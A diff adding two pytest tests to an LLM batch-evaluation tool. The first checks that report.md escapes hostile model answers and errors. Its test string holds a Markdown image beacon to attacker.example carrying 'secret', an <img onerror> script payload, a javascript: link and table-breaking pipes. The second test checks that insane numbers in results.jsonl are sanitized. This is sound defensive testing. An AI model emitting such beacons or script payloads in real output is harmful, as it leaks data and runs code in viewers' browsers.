@@ -10,6 +10,7 @@ from __future__ import annotations
 import io
 import json
 import os
+import re
 from pathlib import Path
 from typing import Any
 
@@ -991,3 +992,57 @@ def test_a_dataset_from_stdin_is_located_as_stdin(
     monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(data + b"\xff\n")))
     assert cli_main([*args, "--run-dir", str(tmp_path / "run2")]) == 1
     assert "mas2c batch: <stdin>:3: not UTF-8 text" in capsys.readouterr().err
+
+
+def test_hostile_predictions_and_errors_are_plain_text_in_report_md() -> None:
+    """An LLM's answer or a program's error lands in report.md's table of failed rows: it is
+    text there, never an image that a Markdown viewer fetches (a beacon carrying what the
+    answer holds), a link, raw HTML, or a column of its own."""
+    from mas2c.batch import Row, report, summarize
+
+    hostile = (
+        "![x](https://attacker.example/p.png?d=secret) <img src=x onerror=alert(1)> "
+        "[click](javascript:alert(1)) | extra | column\n# heading `code`"
+    )
+    rows = [Row(key="r1", index=0, data={}), Row(key="r2", index=1, data={})]
+    done = {
+        "r1": {"key": "r1", "status": "ok", "passed": False, "score": 0.0,
+               "prediction": hostile, "expected": "42", "note": hostile},
+        "r2": {"key": "r2", "status": "error", "error_code": "ToolError", "passed": False,
+               "score": 0.0, "error": hostile},
+    }  # fmt: skip
+    text = report(rows, done, summarize(rows, done, {}, 1.0, [], None))
+    table = [line for line in text.splitlines() if line.startswith(("| r1 ", "| r2 "))]
+    assert len(table) == 2
+    for line in table:
+        assert len(re.split(r"(?<!\\)\|", line)) == 8, line  # six cells, no extra column
+    assert "\n# heading" not in text
+    assert not re.search(r"(?<!\\)\[", "".join(table))  # brackets escaped: no link, no image
+    assert "<img" not in text and "&lt;img" in text
+
+
+def test_a_results_file_with_insane_numbers_is_read_with_sane_ones(tmp_path: Path) -> None:
+    """results.jsonl is the resume point, and a run folder may be edited or come from
+    elsewhere: a NaN, negative or non-numeric cost, count, time or score no longer crashes
+    the summary (float('x')) or hides spending from the cost cap (a negative cost)."""
+    from mas2c.batch import Row, _cost, read_results, report, summarize
+
+    path = tmp_path / "results.jsonl"
+    lines = [
+        '{"key": "a", "status": "ok", "passed": true, "score": "x", "cost_usd": -1e9, '
+        '"tokens": "many", "llm_calls": 2.5, "total_seconds": NaN}',
+        '{"key": "b", "status": "ok", "passed": "yes", "score": 7, "cost_usd": Infinity, '
+        '"tokens": -4, "llm_calls": true, "total_seconds": "slow"}',
+        '{"key": "c", "status": "ok", "passed": false, "score": 0.5, "cost_usd": 0.25, '
+        '"tokens": 10, "llm_calls": 1, "total_seconds": 2.0}',
+    ]
+    path.write_text("\n".join(lines) + "\n")
+    done = read_results(path)
+    assert [(r["passed"], r["score"], _cost(r), r["tokens"]) for r in done.values()] == [
+        (True, 1.0, 0.0, 0), (False, 0.0, 0.0, 0), (False, 0.5, 0.25, 10)
+    ]  # fmt: skip
+    rows = [Row(key=k, index=i, data={}) for i, k in enumerate("abc")]
+    summary = summarize(rows, done, {}, 1.0, [], None)
+    json.dumps(summary, allow_nan=False)
+    assert (summary["cost_usd"], summary["tokens"], summary["llm_calls"]) == (0.25, 10, 1)
+    assert "| c |" in report(rows, done, summary)
